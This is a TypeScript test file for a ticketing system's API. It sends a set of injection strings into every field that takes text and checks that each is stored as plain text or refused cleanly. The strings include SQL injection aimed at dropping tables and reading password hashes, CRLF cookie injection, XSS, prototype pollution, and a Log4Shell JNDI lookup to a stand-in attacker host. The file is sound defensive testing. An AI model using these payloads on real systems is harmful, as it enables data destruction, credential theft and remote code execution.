/** Texts that mean something to a database, a header, a page or a program, in every field that takes text. */
import { v7 } from 'uuid'
import { expect, it } from 'vitest'
import { callApi } from '../access/doors.ts'
import { rowsOnDisk } from '../harness/database.ts'
import { startWorld } from '../harness/world.ts'
import { BOB, hire } from '../accounts/second-step.ts'

const STRINGS = [
  `'; drop table user; --`,
  `" or 1=1 --`,
  `%' union select passwordHash from user --`,
  'a\r\nset-cookie: rejoin_session=eve',
  'a\u0000b',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '__proto__',
  '\u202Eright to left',
] as const

it.each(STRINGS)('takes %j for what it is, or refuses it with a code', async (text) => {
  await using world = await startWorld()
  const bob = await hire(world)
  const desk = await world.desk()
  const { id: ticketId } = await world.ticket({ assignee: { ...desk, id: bob.id } })
  const tables = rowsOnDisk(world.dataDir, `select name from sqlite_schema order by name`)
  const { password } = BOB
  const calls: [string, string, Record<string, unknown>][] = [
    [desk.token, 'accounts.createUser', { name: text, email: 'eve@example.com', role: 'agent' }],
    [desk.token, 'accounts.createUser', { name: 'Eve', email: text, role: 'agent' }],
    [desk.token, 'departments.create', { name: text }],
    [desk.token, 'accounts.roles.create', { name: text, base: 'agent', grants: {} }],
    [desk.token, 'accounts.roles.create', { name: 'Odd', base: 'agent', grants: { [text]: [text] } }],
    [desk.token, 'accounts.setRegistration', { policy: 'domain', domains: [text] }],
    [desk.token, 'accounts.importPeople', { csv: text }],
    [
      desk.token,
      'accounts.importPeople',
      { csv: `name,email,role,departments\n${text},eve@example.com,${text},${text}` },
    ],
    [desk.token, 'invitations.create', { email: text, role: 'agent' }],
    ['', 'accounts.register', { email: text }],
    ['', 'invitations.accept', { token: text, name: text, password: 'quite another one' }],
    [bob.token, 'accounts.editProfile', { name: text }],
    [bob.token, 'accounts.editProfile', { locale: text, zone: text, phone: text }],
    ['', 'accounts.logIn', { email: text, password: text }],
    ['', 'accounts.logIn', { ...BOB, device: text }],
    ['', 'accounts.mfa.answer', { token: text, code: text }],
    ['', 'accounts.requestPasswordReset', { email: text }],
    ['', 'accounts.resetPassword', { token: text, password: 'quite another one' }],
    [bob.token, 'accounts.apiTokens.create', { name: text, scopes: ['ticket.read'], days: 1, password }],
    [bob.token, 'accounts.revokeSession', { sessionId: text }],
    [bob.token, 'tickets.create', { ticketId: v7(), title: text, description: text, category: text, tags: [text] }],
    [bob.token, 'tickets.edit', { ticketId, set: { title: text, site: text, custom: { [text]: text } } }],
    [bob.token, 'tickets.comment', { ticketId, commentId: v7(), body: text }],
    [bob.token, 'tickets.tag', { ticketId, tag: text }],
    [bob.token, 'tickets.logWork', { ticketId, workId: v7(), minutes: 1, note: text }],
  ]
  for (const [token, procedure, input] of calls) {
    const code = await callApi(world.url, token, procedure, input)
    expect({ procedure, code }).not.toEqual({ procedure, code: 'internal' })
  }
  expect(rowsOnDisk(world.dataDir, `select name from sqlite_schema order by name`)).toEqual(tables)
  expect(rowsOnDisk(world.dataDir, `select role from user where name = 'office'`)).toEqual([{ role: 'admin' }])
  const list = await desk.api.tickets.list.query({ text: text.trim().slice(0, 100) })
  expect(list.tickets.every(({ title }) => title.includes(text.trim()))).toBe(true)
})
